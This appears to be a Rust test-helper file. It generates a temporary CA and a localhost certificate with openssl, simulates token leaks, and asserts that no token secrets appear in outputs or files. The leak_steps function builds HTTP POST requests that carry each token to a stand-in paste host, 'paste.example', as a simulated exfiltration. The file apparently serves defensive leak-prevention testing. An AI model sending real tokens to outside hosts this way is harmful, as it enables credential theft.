/// `openssl` makes a CA and a server certificate for 127.0.0.1 signed by it.
pub fn make_ca(dir: &std::path::Path, name: &str) -> (PathBuf, PathBuf, PathBuf) {
    let run = |args: &[&str]| {
        let o = Command::new("openssl")
            .args(args)
            .current_dir(dir)
            .output()
            .expect("openssl");
        assert!(
            o.status.success(),
            "openssl {args:?}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
    };
    let (ca, ca_key) = (format!("{name}-ca.pem"), format!("{name}-ca.key"));
    let (crt, key, csr) = (
        format!("{name}-srv.pem"),
        format!("{name}-srv.key"),
        format!("{name}-srv.csr"),
    );
    run(&[
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-keyout",
        &ca_key,
        "-out",
        &ca,
        "-days",
        "2",
        "-subj",
        &format!("/CN={name} test CA"),
    ]);
    run(&[
        "req",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-keyout",
        &key,
        "-out",
        &csr,
        "-subj",
        "/CN=127.0.0.1",
    ]);
    let ext = dir.join(format!("{name}.ext"));
    std::fs::write(
        &ext,
        "subjectAltName=IP:127.0.0.1\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n",
    )
    .unwrap();
    run(&[
        "x509",
        "-req",
        "-in",
        &csr,
        "-CA",
        &ca,
        "-CAkey",
        &ca_key,
        "-CAcreateserial",
        "-out",
        &crt,
        "-days",
        "2",
        "-extfile",
        ext.to_str().unwrap(),
    ]);
    (dir.join(ca), dir.join(crt), dir.join(key))
}

/// Workload steps sending each token in its own HTTP request to `sink` (not an issuer).
pub fn leak_steps(tokens: &[String], sink: std::net::SocketAddr) -> Vec<String> {
    tokens
        .iter()
        .flat_map(|t| {
            [
                format!("set:POST /paste HTTP/1.1\r\nHost: paste.example\r\nContent-Length: 46\r\n\r\ntoken={t}"),
                format!("tcp:{sink}"),
            ]
        })
        .collect()
}

/// Asserts no token's secret part is in `places` (name, text) or in any file under `dirs`.
pub fn assert_no_token(tokens: &[String], places: &[(&str, String)], dirs: &[&std::path::Path]) {
    for t in tokens {
        let secret = &t[4..];
        for (what, text) in places {
            assert!(!text.contains(secret), "token leaked into {what}");
        }
        for d in dirs {
            let hits = files_containing(d, secret.as_bytes());
            assert!(hits.is_empty(), "token bytes in {hits:?}");
        }
    }
}
